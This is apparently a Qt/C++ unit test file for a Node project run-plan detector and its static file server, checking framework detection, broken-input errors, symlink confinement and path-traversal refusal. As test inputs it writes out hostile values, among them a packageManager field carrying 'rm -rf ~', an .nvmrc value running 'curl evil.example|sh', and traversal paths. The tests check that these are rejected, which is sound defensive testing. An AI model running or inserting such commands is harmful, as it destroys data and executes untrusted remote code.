// RunPlanDetector and ProjectSnapshot: one fixture repository per row (tests/fixtures/detect/<case>),
// plus hostile inputs generated at run time and the embedded static server run for real with node.

#include "core/ProjectSnapshot.h"
#include "core/RunPlanDetector.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using forge::DetectionError;
using forge::ProjectSnapshot;
using forge::RunPlan;
using forge::RunPlanDetector;

namespace {

QString fixturePath(const QString& name)
{
    return QStringLiteral(FORGE_FIXTURES_DIR) + u"/detect/"_s + name;
}

// "npm run dev -- --port ${PORT}" -> argv; "@static:<root>" / "@spa:<root>" -> the static server.
QStringList command(const QString& text)
{
    if (text.startsWith(u"@static:"_s))
        return RunPlan::staticServerCommand(text.mid(8));
    if (text.startsWith(u"@spa:"_s))
        return RunPlan::staticServerCommand(text.mid(5), true);
    return text.split(u' ', Qt::SkipEmptyParts);
}

QString environmentText(const QMap<QString, QString>& environment)
{
    QStringList pairs;
    for (auto it = environment.begin(); it != environment.end(); ++it)
        pairs.append(it.key() + u'=' + it.value());
    return pairs.join(u',');
}

bool writeFile(const QString& path, const QByteArray& content)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(content) == content.size();
}

std::variant<RunPlan, DetectionError> detectIn(const QString& root)
{
    return RunPlanDetector::detect(ProjectSnapshot::fromDirectory(root));
}

const QString Vite = u"Vite 5.4.12/6.0.9"_s;

} // namespace

class TestRunPlanDetector : public QObject
{
    Q_OBJECT

private slots:
    void detectsFixture_data();
    void detectsFixture();
    void reportsBrokenInput_data();
    void reportsBrokenInput();
    void oversizePackageJsonIsAnError();
    void symlinkOutOfRootIsNotRead();
    void workspaceSymlinksAreNotFollowed();
    void workspacePackagesAreCapped();
    void detectionIsPureOnSnapshots();
    void staticServerServesFilesAndRefusesTraversal();
    void staticServerReportsPortInUse();
};

void TestRunPlanDetector::detectsFixture_data()
{
    QTest::addColumn<QString>("fixture");
    QTest::addColumn<QString>("packageManager");
    QTest::addColumn<QString>("framework");
    QTest::addColumn<QString>("variant");
    QTest::addColumn<QString>("install");
    QTest::addColumn<QString>("fallback");
    QTest::addColumn<QString>("dev");
    QTest::addColumn<QString>("build");
    QTest::addColumn<QString>("start");
    QTest::addColumn<QString>("environment");
    QTest::addColumn<int>("port");
    QTest::addColumn<QString>("directory");
    QTest::addColumn<QString>("nodeVersion");
    QTest::addColumn<QString>("note"); // a fragment one of the notes must contain; empty: no check

    const QString crEnv = u"BROWSER=none,HOST=0.0.0.0,PORT=${PORT}"_s;
    const QString nodeEnv = u"HOST=0.0.0.0,PORT=${PORT}"_s;

    // clang-format off
    QTest::newRow("npm, Vite React")
        << u"npm-vite-react"_s << u"npm"_s << u"vite"_s << u"React"_s
        << u"npm ci"_s << u"npm install"_s
        << u"npm run dev -- --host 0.0.0.0 --port ${PORT}"_s << u"npm run build"_s
        << u"npm run preview -- --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString() << Vite;
    QTest::newRow("pnpm, Next.js")
        << u"pnpm-next"_s << u"pnpm"_s << u"nextjs"_s << QString()
        << u"pnpm install --frozen-lockfile"_s << u"pnpm install"_s
        << u"pnpm run dev -H 0.0.0.0 -p ${PORT}"_s << u"pnpm run build"_s
        << u"pnpm run start -H 0.0.0.0 -p ${PORT}"_s << QString() << 3000 << QString() << QString() << QString();
    QTest::newRow("yarn classic, Create React App")
        << u"yarn-classic-cra"_s << u"yarn-classic"_s << u"create-react-app"_s << QString()
        << u"yarn install --frozen-lockfile"_s << u"yarn install"_s
        << u"yarn run start"_s << u"yarn run build"_s << u"@spa:build"_s << crEnv << 3000 << QString() << QString()
        << QString();
    QTest::newRow("yarn berry (.yarnrc.yml), SvelteKit beats Vite")
        << u"yarn-berry-sveltekit"_s << u"yarn-berry"_s << u"sveltekit"_s << QString()
        << u"yarn install --immutable"_s << u"yarn install"_s
        << u"yarn run dev --host 0.0.0.0 --port ${PORT}"_s << u"yarn run build"_s
        << u"yarn run preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString() << Vite;
    QTest::newRow("yarn berry (packageManager yarn@4), Vite Vue")
        << u"yarn-berry-packagemanager-vue"_s << u"yarn-berry"_s << u"vite"_s << u"Vue"_s
        << u"yarn install --immutable"_s << u"yarn install"_s
        << u"yarn run dev --host 0.0.0.0 --port ${PORT}"_s << u"yarn run build"_s
        << u"yarn run preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString() << QString();
    QTest::newRow("yarn berry (__metadata in yarn.lock), Vite Solid, start/serve scripts")
        << u"yarn-berry-lock-metadata"_s << u"yarn-berry"_s << u"vite"_s << u"Solid"_s
        << u"yarn install --immutable"_s << u"yarn install"_s
        << u"yarn run start --host 0.0.0.0 --port ${PORT}"_s << u"yarn run build"_s
        << u"yarn run serve --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString() << QString();
    QTest::newRow("bun (bun.lockb), Astro")
        << u"bun-astro"_s << u"bun"_s << u"astro"_s << QString()
        << u"bun install --frozen-lockfile"_s << u"bun install"_s
        << u"bun run dev --host 0.0.0.0 --port ${PORT}"_s << u"bun run build"_s
        << u"bun run preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 4321 << QString() << QString() << Vite;
    QTest::newRow("bun (bun.lock), Vite Svelte, no preview script")
        << u"bun-lock-vite-svelte"_s << u"bun"_s << u"vite"_s << u"Svelte"_s
        << u"bun install --frozen-lockfile"_s << u"bun install"_s
        << u"bun run dev --host 0.0.0.0 --port ${PORT}"_s << u"bun run build"_s
        << u"bun run vite preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString()
        << u"No script runs `vite preview`"_s;
    QTest::newRow("packageManager pnpm overrides package-lock.json")
        << u"packagemanager-overrides-lockfile"_s << u"pnpm"_s << u"vite"_s << u"Preact"_s
        << u"pnpm install"_s << QString()
        << u"pnpm run dev --host 0.0.0.0 --port ${PORT}"_s << u"pnpm run build"_s
        << u"pnpm run preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString()
        << u"wins over the lockfile of npm"_s;
    QTest::newRow("hostile packageManager ignored, hostile dev script not used")
        << u"hostile-packagemanager"_s << u"npm"_s << u"nextjs"_s << QString()
        << u"npm ci"_s << u"npm install"_s
        << u"npm exec -- next dev -H 0.0.0.0 -p ${PORT}"_s << u"npm run build"_s
        << u"npm run start -- -H 0.0.0.0 -p ${PORT}"_s << QString() << 3000 << QString() << QString()
        << u"Ignored the packageManager field \"pnpm@8; rm -rf ~\""_s;
    QTest::newRow("npm without lockfile, Express")
        << u"npm-express-no-lockfile"_s << u"npm"_s << u"node-server"_s << QString()
        << u"npm install"_s << QString()
        << u"npm run dev"_s << QString() << u"npm run start"_s << nodeEnv << 3000 << QString() << QString()
        << u"PORT and HOST"_s;
    QTest::newRow("npm-shrinkwrap.json, Fastify start script")
        << u"npm-shrinkwrap-fastify"_s << u"npm"_s << u"node-server"_s << QString()
        << u"npm ci"_s << u"npm install"_s
        << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000 << QString() << QString()
        << QString();
    QTest::newRow("Koa with main and no scripts: node <main>")
        << u"express-main-no-scripts"_s << u"npm"_s << u"node-server"_s << QString()
        << u"npm install"_s << QString()
        << u"node src/server.js"_s << QString() << u"node src/server.js"_s << nodeEnv << 3000 << QString()
        << QString() << QString();
    QTest::newRow("plain start script running node")
        << u"generic-start-script"_s << u"npm"_s << u"node-server"_s << QString()
        << u"npm ci"_s << u"npm install"_s
        << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000 << QString() << QString()
        << u"No known framework"_s;
    QTest::newRow("Nuxt 3, pnpm")
        << u"nuxt3-pnpm"_s << u"pnpm"_s << u"nuxt"_s << QString()
        << u"pnpm install --frozen-lockfile"_s << u"pnpm install"_s
        << u"pnpm run dev --host 0.0.0.0 --port ${PORT}"_s << u"pnpm run build"_s
        << u"node .output/server/index.mjs"_s << nodeEnv << 3000 << QString() << QString() << QString();
    QTest::newRow("Nuxt 2 takes --hostname")
        << u"nuxt2"_s << u"npm"_s << u"nuxt"_s << QString()
        << u"npm ci"_s << u"npm install"_s
        << u"npm run dev -- --hostname 0.0.0.0 --port ${PORT}"_s << u"npm run build"_s
        << u"npm run start -- --hostname 0.0.0.0 --port ${PORT}"_s << nodeEnv << 3000 << QString() << QString()
        << QString();
    QTest::newRow("Angular (application builder output)")
        << u"angular"_s << u"npm"_s << u"angular"_s << QString()
        << u"npm ci"_s << u"npm install"_s
        << u"npm run start -- --host 0.0.0.0 --port ${PORT}"_s << u"npm run build"_s
        << u"@spa:dist/shop/browser"_s << QString() << 4200 << QString() << QString() << u"Host header"_s;
    QTest::newRow("Vue CLI, yarn classic")
        << u"vue-cli"_s << u"yarn-classic"_s << u"vue-cli"_s << QString()
        << u"yarn install --frozen-lockfile"_s << u"yarn install"_s
        << u"yarn run serve --host 0.0.0.0 --port ${PORT}"_s << u"yarn run build"_s << u"@spa:dist"_s
        << QString() << 8080 << QString() << QString() << QString();
    QTest::newRow("Vite Lit without scripts: exec the CLI")
        << u"vite-lit-no-scripts"_s << u"npm"_s << u"vite"_s << u"Lit"_s
        << u"npm ci"_s << u"npm install"_s
        << u"npm exec -- vite --host 0.0.0.0 --port ${PORT}"_s << u"npm exec -- vite build"_s
        << u"npm exec -- vite preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString()
        << u"No script runs `vite`"_s;
    QTest::newRow("static HTML, no package.json")
        << u"static-html"_s << u"none"_s << u"static-html"_s << QString()
        << QString() << QString() << u"@static:."_s << QString() << u"@static:."_s << QString() << 8080
        << QString() << QString() << QString();
    QTest::newRow("static HTML, package.json with nothing runnable")
        << u"static-html-with-package-json"_s << u"none"_s << u"static-html"_s << QString()
        << QString() << QString() << u"@static:."_s << QString() << u"@static:."_s << QString() << 8080
        << QString() << QString() << u"serving index.html"_s;
    QTest::newRow("monorepo, npm workspaces, apps/web")
        << u"monorepo-npm-workspaces"_s << u"npm"_s << u"nextjs"_s << QString()
        << u"npm ci"_s << u"npm install"_s
        << u"npm run dev -- -H 0.0.0.0 -p ${PORT}"_s << u"npm run build"_s
        << u"npm run start -- -H 0.0.0.0 -p ${PORT}"_s << QString() << 3000 << u"apps/web"_s << u"lts/iron"_s
        << u"Monorepo: using the workspace package apps/web"_s;
    QTest::newRow("monorepo, pnpm-workspace.yaml, apps/* before packages/*")
        << u"monorepo-pnpm-workspace"_s << u"pnpm"_s << u"vite"_s << u"Vue"_s
        << u"pnpm install --frozen-lockfile"_s << u"pnpm install"_s
        << u"pnpm run dev --host 0.0.0.0 --port ${PORT}"_s << u"pnpm run build"_s
        << u"pnpm exec vite preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << u"apps/site"_s
        << u">=20"_s << u"Other runnable packages: packages/dashboard"_s;
    QTest::newRow("monorepo, workspaces object, yarn classic, CRA package")
        << u"monorepo-workspaces-object"_s << u"yarn-classic"_s << u"create-react-app"_s << QString()
        << u"yarn install --frozen-lockfile"_s << u"yarn install"_s
        << u"yarn run start"_s << u"yarn run build"_s << u"@spa:build"_s << crEnv << 3000 << u"packages/app"_s
        << QString() << u"packages/app"_s;
    QTest::newRow("UTF-8 BOM accepted")
        << u"bom"_s << u"pnpm"_s << u"vite"_s << u"Vanilla"_s
        << u"pnpm install --frozen-lockfile"_s << u"pnpm install"_s
        << u"pnpm run dev --host 0.0.0.0 --port ${PORT}"_s << u"pnpm exec vite build"_s
        << u"pnpm exec vite preview --host 0.0.0.0 --port ${PORT}"_s << QString() << 5173 << QString() << QString()
        << QString();
    QTest::newRow("Node version: .nvmrc first")
        << u"node-version-nvmrc"_s << u"npm"_s << u"node-server"_s << QString()
        << u"npm install"_s << QString() << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000
        << QString() << u"v20.11.1"_s << QString();
    QTest::newRow("Node version: .node-version before volta")
        << u"node-version-file"_s << u"npm"_s << u"node-server"_s << QString()
        << u"npm install"_s << QString() << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000
        << QString() << u"18.19.0"_s << QString();
    QTest::newRow("Node version: engines.node before volta.node")
        << u"node-version-engines"_s << u"npm"_s << u"node-server"_s << QString()
        << u"npm install"_s << QString() << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000
        << QString() << u">=18.17 <21"_s << QString();
    QTest::newRow("Node version: volta.node")
        << u"node-version-volta"_s << u"npm"_s << u"node-server"_s << QString()
        << u"npm install"_s << QString() << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000
        << QString() << u"20.10.0"_s << QString();
    QTest::newRow("Node version: hostile .nvmrc ignored")
        << u"node-version-invalid"_s << u"npm"_s << u"node-server"_s << QString()
        << u"npm install"_s << QString() << u"npm run start"_s << QString() << u"npm run start"_s << nodeEnv << 3000
        << QString() << u"20.x"_s << u"Ignored the Node.js version \"$(curl evil.example|sh)\" from .nvmrc"_s;
    // clang-format on
}

void TestRunPlanDetector::detectsFixture()
{
    QFETCH(QString, fixture);
    QFETCH(QString, packageManager);
    QFETCH(QString, framework);
    QFETCH(QString, variant);
    QFETCH(QString, install);
    QFETCH(QString, fallback);
    QFETCH(QString, dev);
    QFETCH(QString, build);
    QFETCH(QString, start);
    QFETCH(QString, environment);
    QFETCH(int, port);
    QFETCH(QString, directory);
    QFETCH(QString, nodeVersion);
    QFETCH(QString, note);

    QVERIFY2(QFileInfo(fixturePath(fixture)).isDir(), qPrintable(fixturePath(fixture)));
    const auto result = detectIn(fixturePath(fixture));
    if (const auto* error = std::get_if<DetectionError>(&result))
        QFAIL(qPrintable(error->message));
    const RunPlan& plan = std::get<RunPlan>(result);

    QCOMPARE(toString(plan.packageManager), packageManager);
    QCOMPARE(toString(plan.framework), framework);
    QCOMPARE(plan.frameworkVariant, variant);
    QCOMPARE(plan.installCommand, command(install));
    QCOMPARE(plan.installFallbackCommand, command(fallback));
    QCOMPARE(plan.devCommand, command(dev));
    QCOMPARE(plan.buildCommand, command(build));
    QCOMPARE(plan.startCommand, command(start));
    QCOMPARE(environmentText(plan.environment), environment);
    QCOMPARE(plan.expectedPort, port);
    QCOMPARE(plan.projectDirectory, directory);
    QCOMPARE(plan.nodeVersion, nodeVersion);
    if (!note.isEmpty()) {
        const bool found = std::any_of(plan.notes.begin(), plan.notes.end(),
                                       [&](const QString& n) { return n.contains(note); });
        QVERIFY2(found, qPrintable(u"no note contains \"%1\" in:\n%2"_s.arg(note, plan.notes.join(u'\n'))));
    }
    // Every plan that runs something binds all interfaces on the chosen port.
    const QString everything = (plan.devCommand + plan.environment.values()).join(u' ');
    QVERIFY(everything.contains(u"${PORT}"_s));
    // The plan survives saving and loading unchanged.
    const std::optional<RunPlan> loaded = RunPlan::fromJson(plan.toJson());
    QVERIFY(loaded && *loaded == plan);
}

void TestRunPlanDetector::reportsBrokenInput_data()
{
    QTest::addColumn<QString>("fixture");
    QTest::addColumn<QString>("message");
    QTest::addColumn<QString>("advice");

    const QString fix = u"Fix package.json"_s;
    QTest::newRow("nothing at all") << u"nothing-runnable"_s
                                    << u"Nothing runnable found in the repository root"_s
                                    << u"looks for a package.json"_s;
    QTest::newRow("library without scripts or index.html")
        << u"library-only"_s << u"Nothing runnable found in the repository root: package.json has no"_s
        << u"index.html"_s;
    QTest::newRow("monorepo without runnable package")
        << u"monorepo-nothing-runnable"_s << u"Nothing runnable found in the monorepo root"_s
        << u"workspace package"_s;
    QTest::newRow("invalid JSON, with position")
        << u"broken-json"_s
        << u"package.json: not valid JSON: object is missing after a comma at line 3, column 32"_s << fix;
    QTest::newRow("empty file") << u"empty-package-json"_s << u"package.json: the file is empty."_s << fix;
    QTest::newRow("array at top level")
        << u"top-level-array"_s << u"package.json: the top level must be a JSON object, found an array."_s
        << fix;
    QTest::newRow("scripts is an array")
        << u"wrong-type-scripts"_s
        << u"package.json: \"scripts\" must be an object mapping names to commands, found an array."_s << fix;
    QTest::newRow("dependencies is an array")
        << u"wrong-type-dependencies"_s
        << u"package.json: \"dependencies\" must be an object mapping names to version ranges, found an array."_s
        << fix;
    QTest::newRow("name is a number")
        << u"wrong-type-name"_s << u"package.json: \"name\" must be a string, found a number."_s << fix;
    QTest::newRow("script value is an object")
        << u"wrong-type-script-value"_s
        << u"package.json: \"scripts\" → \"dev\" must be a string (a command), found an object."_s << fix;
    QTest::newRow("engines is a string")
        << u"wrong-type-engines"_s << u"package.json: \"engines\" must be an object, found a string."_s
        << fix;
    QTest::newRow("nesting deeper than QJsonDocument accepts")
        << u"deep-nesting"_s << u"package.json: the JSON is nested too deeply"_s << fix;
}

void TestRunPlanDetector::reportsBrokenInput()
{
    QFETCH(QString, fixture);
    QFETCH(QString, message);
    QFETCH(QString, advice);

    QVERIFY2(QFileInfo(fixturePath(fixture)).isDir(), qPrintable(fixturePath(fixture)));
    const auto result = detectIn(fixturePath(fixture));
    const auto* error = std::get_if<DetectionError>(&result);
    if (!error)
        QFAIL(qPrintable(u"detected a plan: "_s + std::get<RunPlan>(result).summary()));
    QVERIFY2(error->message.contains(message), qPrintable(error->message));
    QVERIFY2(error->advice.contains(advice), qPrintable(error->advice));
}

void TestRunPlanDetector::oversizePackageJsonIsAnError()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    QByteArray content = R"({"name": "huge", "scripts": {"dev": "vite"}, "pad": ")";
    content += QByteArray(ProjectSnapshot::MaxFileSize, 'x');
    content += "\"}";
    QVERIFY(writeFile(dir.filePath(u"package.json"_s), content));

    const ProjectSnapshot snapshot = ProjectSnapshot::fromDirectory(dir.path());
    QVERIFY(snapshot.contains(u"package.json"_s));
    QVERIFY(!snapshot.isReadable(u"package.json"_s));
    QVERIFY(snapshot.content(u"package.json"_s).isEmpty());

    const auto result = RunPlanDetector::detect(snapshot);
    const auto* error = std::get_if<DetectionError>(&result);
    QVERIFY(error);
    QVERIFY2(error->message.startsWith(u"package.json could not be read: it is larger than 2 MB"_s),
             qPrintable(error->message));
    QVERIFY(!error->advice.isEmpty());

    // Exactly at the limit is still read.
    QByteArray atLimit = R"({"name": "big", "scripts": {"start": "node ."}, "pad": ")";
    atLimit += QByteArray(ProjectSnapshot::MaxFileSize - atLimit.size() - 2, 'y') + "\"}";
    QCOMPARE(atLimit.size(), ProjectSnapshot::MaxFileSize);
    QVERIFY(writeFile(dir.filePath(u"package.json"_s), atLimit));
    QVERIFY(std::holds_alternative<RunPlan>(detectIn(dir.path())));
}

void TestRunPlanDetector::symlinkOutOfRootIsNotRead()
{
    QTemporaryDir outside;
    QTemporaryDir dir;
    QVERIFY(outside.isValid() && dir.isValid());
    const QByteArray json1 = R"({"name": "secret", "scripts": {"dev": "vite"}})";
    QVERIFY(writeFile(outside.filePath(u"secret.json"_s), json1));
    QVERIFY(QFile::link(outside.filePath(u"secret.json"_s), dir.filePath(u"package.json"_s)));

    const ProjectSnapshot snapshot = ProjectSnapshot::fromDirectory(dir.path());
    QVERIFY(snapshot.contains(u"package.json"_s));
    QVERIFY(!snapshot.isReadable(u"package.json"_s));
    const auto result = RunPlanDetector::detect(snapshot);
    QVERIFY(std::holds_alternative<DetectionError>(result));
    QVERIFY(
        std::get<DetectionError>(result).message.contains(u"not a readable file inside the repository"_s));

    // A symlink that stays inside the checkout is fine.
    QVERIFY(QFile::remove(dir.filePath(u"package.json"_s)));
    const QByteArray json2 = R"({"name": "ok", "scripts": {"start": "node ."}})";
    QVERIFY(writeFile(dir.filePath(u"real/package.json"_s), json2));
    QVERIFY(QFile::link(dir.filePath(u"real/package.json"_s), dir.filePath(u"package.json"_s)));
    QVERIFY(ProjectSnapshot::fromDirectory(dir.path()).isReadable(u"package.json"_s));
}

void TestRunPlanDetector::workspaceSymlinksAreNotFollowed()
{
    QTemporaryDir outside;
    QTemporaryDir dir;
    QVERIFY(outside.isValid() && dir.isValid());
    const QByteArray json3 = R"({"name": "mono", "workspaces": ["apps/*", "libs"]})";
    QVERIFY(writeFile(dir.filePath(u"package.json"_s), json3));
    const QByteArray json4 = R"({"name": "evil", "dependencies": {"next": "14"}})";
    QVERIFY(writeFile(outside.filePath(u"evil/package.json"_s), json4));
    QVERIFY(QDir().mkpath(dir.filePath(u"apps"_s)));
    QVERIFY(QFile::link(outside.filePath(u"evil"_s), dir.filePath(u"apps/evil"_s)));
    QVERIFY(QFile::link(outside.filePath(u"evil"_s), dir.filePath(u"libs"_s)));
    const QByteArray json5 = R"({"name": "web", "dependencies": {"astro": "4"}})";
    QVERIFY(writeFile(dir.filePath(u"apps/web/package.json"_s), json5));

    const ProjectSnapshot snapshot = ProjectSnapshot::fromDirectory(dir.path());
    QCOMPARE(snapshot.paths(), (QStringList{u"apps/web/package.json"_s, u"package.json"_s}));
    const auto result = RunPlanDetector::detect(snapshot);
    QVERIFY(std::holds_alternative<RunPlan>(result));
    QCOMPARE(std::get<RunPlan>(result).projectDirectory, u"apps/web"_s);
    QCOMPARE(toString(std::get<RunPlan>(result).framework), u"astro"_s);
}

void TestRunPlanDetector::workspacePackagesAreCapped()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QByteArray json6 = R"({"name": "many", "workspaces": ["packages/*"]})";
    QVERIFY(writeFile(dir.filePath(u"package.json"_s), json6));
    for (int i = 0; i < ProjectSnapshot::MaxWorkspacePackages + 20; ++i) {
        const QByteArray package = R"({"name": "p", "main": "index.js"})";
        QVERIFY(writeFile(dir.filePath(u"packages/p%1/package.json"_s.arg(i, 3, 10, QChar(u'0'))), package));
    }
    const ProjectSnapshot snapshot = ProjectSnapshot::fromDirectory(dir.path());
    QCOMPARE(snapshot.paths().size(), ProjectSnapshot::MaxWorkspacePackages + 1);
}

void TestRunPlanDetector::detectionIsPureOnSnapshots()
{
    // Detection works on any snapshot, e.g. one read through a sandbox's file API.
    ProjectSnapshot snapshot;
    snapshot.addFile(u"package.json"_s, R"({"dependencies": {"next": "14"}, "scripts": {"dev": "next"}})");
    snapshot.addFile(u"bun.lock"_s, {});
    const auto result = RunPlanDetector::detect(snapshot);
    QVERIFY(std::holds_alternative<RunPlan>(result));
    const RunPlan& plan = std::get<RunPlan>(result);
    QCOMPARE(plan.devCommand, command(u"bun run dev -H 0.0.0.0 -p ${PORT}"_s));
    QCOMPARE(plan.summary(), u"Next.js · Bun"_s);

    QCOMPARE(ProjectSnapshot::fromDirectory(u"/nonexistent/forge/path"_s).paths(), QStringList());

    // Hostile workspace patterns are dropped, simple ones normalised.
    ProjectSnapshot mono;
    mono.addFile(u"package.json"_s,
                 R"({"workspaces": ["../outside/*", "/etc", "./apps/*/", "tools/**", "!x", "a/*/b", "*"]})");
    mono.addFile(u"pnpm-workspace.yaml"_s, "packages: ['web', \"docs/*\"]\n");
    QCOMPARE(mono.workspacePatterns(), (QStringList{u"apps/*"_s, u"tools/*"_s, u"web"_s, u"docs/*"_s}));
    QVERIFY(ProjectSnapshot::matchesWorkspacePattern(u"apps/x"_s, mono.workspacePatterns()));
    QVERIFY(!ProjectSnapshot::matchesWorkspacePattern(u"apps/x/y"_s, mono.workspacePatterns()));
    QVERIFY(ProjectSnapshot::matchesWorkspacePattern(u"web"_s, mono.workspacePatterns()));
    QVERIFY(!ProjectSnapshot::matchesWorkspacePattern(u"website"_s, mono.workspacePatterns()));

    // The position of a syntax error is reported as line and column.
    ProjectSnapshot broken;
    broken.addFile(u"package.json"_s, "{\n  \"name\": \"x\",\n  \"scripts\": { \"dev\": \"vite\", }\n}\n");
    const auto error = std::get<DetectionError>(RunPlanDetector::detect(broken));
    QVERIFY2(error.message.contains(u"at line 3, column"_s), qPrintable(error.message));
}

void TestRunPlanDetector::staticServerServesFilesAndRefusesTraversal()
{
    const QString node = QStandardPaths::findExecutable(u"node"_s);
    if (node.isEmpty())
        QSKIP("node is not installed");
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    QVERIFY(writeFile(dir.filePath(u"site/index.html"_s), "<h1>home</h1>"));
    QVERIFY(writeFile(dir.filePath(u"site/app.js"_s), "console.log(1)"));
    QVERIFY(writeFile(dir.filePath(u"site/style.css"_s), "h1{}"));
    QVERIFY(writeFile(dir.filePath(u"site/logo.svg"_s), "<svg/>"));
    QVERIFY(writeFile(dir.filePath(u"site/data.json"_s), "{}"));
    QVERIFY(writeFile(dir.filePath(u"site/docs/index.html"_s), "<h1>docs</h1>"));
    QVERIFY(writeFile(dir.filePath(u"secret.txt"_s), "secret"));
    QVERIFY(QFile::link(dir.filePath(u"secret.txt"_s), dir.filePath(u"site/link.txt"_s)));

    // Port 0: the OS picks a free port, which the "Serving" line reports.
    QStringList command = RunPlan{}.withPort(0).staticServerCommand(u"site"_s);
    command.replace(command.indexOf(u"${PORT}"_s), u"0"_s);
    QProcess server;
    server.setWorkingDirectory(dir.path());
    server.setProcessChannelMode(QProcess::MergedChannels);
    server.start(node, command.mid(1));
    QVERIFY(server.waitForStarted());
    QByteArray output;
    static const QRegularExpression serving(u"^Serving site at http://0\\.0\\.0\\.0:(\\d+)/$"_s,
                                            QRegularExpression::MultilineOption);
    QRegularExpressionMatch match;
    QTRY_VERIFY_WITH_TIMEOUT(
        (output += server.readAll(), match = serving.match(QString::fromUtf8(output)), match.hasMatch()),
        10000);
    const QString port = match.captured(1);

    // A small node client prints "<status> <content-type>" per path, raw paths untouched.
    const QString client = uR"JS(
const http = require('http');
const [port, ...paths] = process.argv.slice(1);
(async () => {
  for (const p of paths) {
    const line = await new Promise((resolve) => {
      http.get({ host: '127.0.0.1', port, path: p }, (res) => {
        res.resume();
        res.on('end', () => resolve(`${p} ${res.statusCode} ${res.headers['content-type'] || '-'}`));
      }).on('error', (e) => resolve(`${p} error ${e.code}`));
    });
    console.log(line);
  }
})();
)JS"_s;
    const QStringList paths{
        u"/"_s,         u"/app.js"_s, u"/style.css"_s, u"/logo.svg"_s,      u"/data.json"_s,
        u"/docs"_s,     u"/docs/"_s,  u"/missing"_s,   u"/../secret.txt"_s, u"/%2e%2e/secret.txt"_s,
        u"/link.txt"_s, u"/%E0%A4"_s};
    QProcess fetch;
    fetch.start(node, QStringList{u"-e"_s, client, u"--"_s, port} + paths);
    QVERIFY(fetch.waitForFinished(15000));
    const QStringList lines = QString::fromUtf8(fetch.readAllStandardOutput()).trimmed().split(u'\n');
    const QStringList expected{
        u"/ 200 text/html; charset=utf-8"_s,
        u"/app.js 200 text/javascript; charset=utf-8"_s,
        u"/style.css 200 text/css; charset=utf-8"_s,
        u"/logo.svg 200 image/svg+xml"_s,
        u"/data.json 200 application/json; charset=utf-8"_s,
        u"/docs 301 -"_s,
        u"/docs/ 200 text/html; charset=utf-8"_s,
        u"/missing 404 text/plain; charset=utf-8"_s,
        u"/../secret.txt 403 text/plain; charset=utf-8"_s,
        u"/%2e%2e/secret.txt 403 text/plain; charset=utf-8"_s,
        u"/link.txt 404 text/plain; charset=utf-8"_s,
        u"/%E0%A4 400 text/plain; charset=utf-8"_s,
    };
    QCOMPARE(lines, expected);

    server.terminate();
    QVERIFY(server.waitForFinished(5000));
}

void TestRunPlanDetector::staticServerReportsPortInUse()
{
    const QString node = QStandardPaths::findExecutable(u"node"_s);
    if (node.isEmpty())
        QSKIP("node is not installed");
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    QVERIFY(writeFile(dir.filePath(u"index.html"_s), "<h1>x</h1>"));

    QProcess first;
    first.setWorkingDirectory(dir.path());
    first.start(node, RunPlan::staticServerCommand(u"."_s).mid(1).replaceInStrings(u"${PORT}"_s, u"0"_s));
    QVERIFY(first.waitForStarted());
    QTRY_VERIFY_WITH_TIMEOUT(first.canReadLine(), 10000);
    const QString line = QString::fromUtf8(first.readLine()).trimmed();
    const QString port = line.section(u':', -1).chopped(1);
    QVERIFY2(port.toInt() > 0, qPrintable(line));

    RunPlan plan;
    plan.devCommand = RunPlan::staticServerCommand(u"."_s);
    QProcess second;
    second.setWorkingDirectory(dir.path());
    second.start(node, plan.withPort(port.toInt()).devCommand.mid(1));
    QVERIFY(second.waitForFinished(10000));
    QCOMPARE(second.exitStatus(), QProcess::NormalExit);
    QCOMPARE(second.exitCode(), 1);
    QCOMPARE(QString::fromUtf8(second.readAllStandardError()).trimmed(),
             u"Port %1 is already in use: stop the other server or choose another port."_s.arg(port));

    first.terminate();
    QVERIFY(first.waitForFinished(5000));
}

QTEST_GUILESS_MAIN(TestRunPlanDetector)
#include "tst_runplandetector.moc"
